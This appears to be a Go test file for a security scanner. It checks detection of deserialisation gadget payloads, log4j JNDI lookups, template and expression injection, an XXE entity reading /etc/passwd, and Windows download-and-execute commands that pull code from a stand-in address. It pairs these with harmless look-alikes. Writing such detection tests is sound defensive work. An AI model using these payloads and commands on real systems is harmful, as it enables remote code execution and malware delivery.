package scan

import (
	"encoding/base64"
	"testing"
)

// Objects that run code are found behind encodings, too, although what serialises
// them is opened.
func TestGadgetFamily(t *testing.T) {
	invoker := "org.apache.commons.collections.functors." + "InvokerTransformer"
	java := "\xac\xed\x00\x05sr\x00\x3a" + invoker + "\x87\xe8\xff\x6b\x7b\x7c\xce\x38\x02\x00\x00xp"
	pickle := "c" + "posix\nsystem\n(S'id'\ntR."
	pickle4 := "\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."
	php := `O:40:"Illuminate\Broadcasting\` + `PendingBroadcast":0:{}`
	ruby := "\x04\x08o:\x40ActiveSupport::Deprecation::" + "DeprecatedInstanceVariableProxy\x00"
	for name, value := range map[string]string{"java": java, "pickle 0": pickle, "pickle 4": pickle4, "php": php, "ruby": ruby,
		"pickle 2":       "\x80\x02c" + "subprocess\nPopen\n(S'id'\ntR.",
		"java in base64": base64.StdEncoding.EncodeToString([]byte(java)), "pickle in gzip": compressed("gzip")("", pickle4)} {
		found := findingsIn(t, "k", value)
		if len(found) != 1 || found[0].Rule != gadgetRule || found[0].Severity != Critical {
			t.Errorf("%s: found %s", name, brief(found))
		}
	}
	testArtefacts(t, []artefactCase{
		{"stack trace", "at " + invoker + ".transform(InvokerTransformer.java:126)", "", ""},
		{"pickle of a function", "\x80\x04\x95\x17\x00\x00\x00\x00\x00\x00\x00\x8c\x04math\x94\x8c\x04sqrt\x94\x93\x94.", "", ""},
		{"pickle of a dict", "\x80\x02}q\x00X\x05\x00\x00\x00posixq\x01X\x04\x00\x00\x00pathq\x02s.", "", ""},
		{"script", "import os\nos.system('id')\n", "", ""},
		{"lookup", "${jndi:" + "ldap://" + address + ":1389/a}", "jndi-lookup", "T1190"},
		{"disguised", "ua=${${lower:j}ndi:${lower:l}dap://" + address + "/a}", "jndi-lookup", "T1190"},
		{"about it", "log4j resolved ${jndi:name} once", "", ""},
		{"YAML of Python", "!!python/object/" + "apply:os.system [\"id\"]", "expression-injection", "T1190"},
		{"function for Node", `{"x":"_$$ND_` + `FUNC$$_function(){}()"}`, "expression-injection", "T1190"},
		{"expression of Spring", "${T(java.lang." + "Runtime).getRuntime().exec('id')}", "expression-injection", "T1190"},
		{"template of Jinja", "{{ ''.__class__.__mro__[1].__sub" + "classes__() }}", "expression-injection", "T1190"},
		{"template of FreeMarker", "<#assign x='freemarker.template." + "utility.Execute'?new()>", "expression-injection", "T1190"},
		{"entity", "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///" + "etc/passwd\">]><r>&x;</r>", "expression-injection", "T1190"},
		{"reply to React", `{"then":"$1:__proto__` + `:then","status":"resolved_model"}`, "expression-injection", "T1190"},
		{"class of Python", "for c in Base.__subclasses__(): register(c)", "", ""},
		{"YAML", "!!python/tuple [1, 2]", "", ""},
		{"entity of a document", "<!DOCTYPE r [<!ENTITY x \"value\">]><r>&x;</r>", "", ""},
		{"file in a log", "read by system \"file:///var/log/x\"", "", ""},
		{"template", "${${env}://host}", "", ""},
	})
}

// TestPublishedInstaller: nothing but what an installation guide has is possible,
// unless it hides.
func TestPublishedInstaller(t *testing.T) {
	for value, severity := range map[string]Severity{
		"irm https://get.synthetic.test | iex": Medium, "powershell -w hidden -c \"irm https://get.synthetic.test | iex\"": High, "irm http://" + address + " | iex": High,
		curl + " -fsSL https://get.synthetic.test/i.sh " + pipe: Medium, curl + " -kfsSL https://get.synthetic.test/i.sh -k " + pipe + " >/dev/null": High,
	} {
		found := findingsIn(t, "x", value)
		if len(found) != 1 || found[0].Severity != severity {
			t.Errorf("%q: found %s, want severity %s", value[:8], brief(found), severity)
		}
	}
}

func TestWindowsFamily(t *testing.T) {
	const rule, technique = "windows-download", "T1105"
	client := "(New-Object Net.WebClient).Download" + "String('http://" + address + "/a')"
	testArtefacts(t, []artefactCase{
		{"powershell", `powershell -nop -w hidden -c "IEX` + client + `"`, rule, technique},
		{"certutil", "certutil " + "-urlcache -split -f http://" + address + "/a.exe a.exe", rule, technique},
		{"bitsadmin", "bitsadmin " + "/transfer j /download http://" + address + "/a.exe C:\\a.exe", rule, technique},
		{"mshta", "mshta " + "http://" + address + "/a.hta", rule, technique},
		{"short names", "powershell -c \"irm http://" + address + "/i.ps1 | iex\"", rule, technique},
		{"installer", "msiexec " + "/q /i http://" + address + "/a.msi", rule, technique},
		{"scheduled", "schtasks " + "/create /sc minute /tn u /tr \"powershell -w hidden -c iex(iwr http://" + address + "/a)\"", rule, technique},
		{"library of a share", "rundll32.exe " + `\\` + address + `\s\x.dll,Start`, rule, technique},
		{"published, in a guide", "To install, open a shell and run\nirm https://get.synthetic.test | iex\nthen restart it", "", ""},
		{"installer of a file", "msiexec /i C:\\a.msi REBOOT=no https://a/help", "", ""},
		{"confirmation", "confirm http://a/b iex ", "", ""},
		{"script that reads", "$page = " + client, "", ""},
		{"certificate", "certutil -hashfile https://a/b SHA256", "", ""},
		{"sentence", "mshta opens pages such as http://example.org", "", ""},
	})
}
